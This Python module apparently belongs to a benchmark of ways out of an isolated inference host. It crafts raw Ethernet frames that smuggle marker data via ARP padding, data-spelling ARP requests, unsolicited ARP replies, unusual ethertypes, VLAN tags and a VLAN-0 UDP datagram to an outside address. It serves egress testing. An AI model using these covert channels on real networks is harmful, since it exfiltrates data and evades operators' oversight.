"""ARP, unknown ethertypes and VLAN tags: what a raw socket of the link sends."""

from ipaddress import IPv4Address

from benchmarks.ways_out.attacker import Attacker, Try, framed
from benchmarks.ways_out.frames import ETH_ARP, ETH_IP, arp, ethernet, udp
from benchmarks.ways_out.site import WORLD

_EVERYONE = b"\xff" * 6
_EXPERIMENT = 0x88B5
"""An ethertype for local experiments (IEEE 802)."""


def _to_everyone(ethertype: int, attacker: Attacker, payload: bytes) -> bytes:
    return ethernet(_EVERYONE, attacker.site.inference_mac, ethertype, payload.ljust(46, b"\0"))


def _arp(attacker: Attacker, operation: int, asked: IPv4Address, hardware: bytes, padding: bytes) -> bytes:
    sender = attacker.site.inference_mac, attacker.site.inference_address
    return _to_everyone(ETH_ARP, attacker, arp(operation, sender, (hardware, asked)) + padding)


def _arp_question(attacker: Attacker) -> list[bytes]:
    """ARP requests, each for an address that spells data: with the sender's, 14 bytes by which it is recognised."""
    asked = [IPv4Address(attacker.marker()[:4]) for _ in range(4)]
    sent = [_arp(attacker, 1, address, bytes(6), b"") for address in asked]
    for frame in sent:
        attacker.send(frame)
    return [frame[22:42] for frame in sent]


def _tagged(tags: bytes, attacker: Attacker, marker: bytes) -> bytes:
    return _EVERYONE + attacker.site.inference_mac + tags + _EXPERIMENT.to_bytes(2) + marker.ljust(46, b"\0")


def _priority_tagged(attacker: Attacker, marker: bytes) -> bytes:
    """A datagram to the world in a frame with a tag of VLAN 0, which hosts take for no tag."""
    packet = udp(attacker.site.inference_address, WORLD, (4433, 4433), marker)
    tag = b"\x81\x00\xe0\x00" + ETH_IP.to_bytes(2)
    return attacker.site.sidecar_mac + attacker.site.inference_mac + tag + packet


def _typed(name: str, ethertype: int) -> Try:
    return framed(name, "other_ethertypes", lambda attacker, marker: _to_everyone(ethertype, attacker, marker))


def _reserved(name: str, last: int, ethertype: int) -> Try:
    """A frame to a reserved address of IEEE 802.1D."""

    def frame(attacker: Attacker, marker: bytes) -> bytes:
        destination = bytes.fromhex("0180c20000") + bytes([last])
        return ethernet(destination, attacker.site.inference_mac, ethertype, b"\x42\x42\x03" + marker.ljust(43, b"\0"))

    return framed(name, "other_ethertypes", frame)


ETHERNET = (
    framed(
        "gratuitous ARP, data in its padding",
        "arp_frames",
        lambda attacker, marker: _arp(attacker, 1, attacker.site.inference_address, bytes(6), marker),
    ),
    Try("ARP requests for addresses that spell data", "arp_frames", _arp_question),
    framed(
        "ARP answer that nobody asked for",
        "arp_frames",
        lambda attacker, marker: _arp(attacker, 2, WORLD, marker[:6], marker),
    ),
    _typed("reverse ARP", 0x8035),
    _typed("frame of an unknown ethertype", _EXPERIMENT),
    _typed("LLDP", 0x88CC),
    _typed("EAPOL", 0x888E),
    _typed("IEEE 802.3 frame, with a length for an ethertype", 46),
    _reserved("spanning tree frame", 0x00, 46),
    _reserved("PAUSE frame", 0x01, 0x8808),
    framed(
        "VLAN tag",
        "vlan_frames",
        lambda attacker, marker: _tagged(b"\x81\x00\x00\x07", attacker, marker),
    ),
    framed(
        "two VLAN tags",
        "vlan_frames",
        lambda attacker, marker: _tagged(b"\x88\xa8\x00\x07\x81\x00\x00\x08", attacker, marker),
    ),
    framed("VLAN tag 0, datagram to the world", "vlan_frames", _priority_tagged),
)
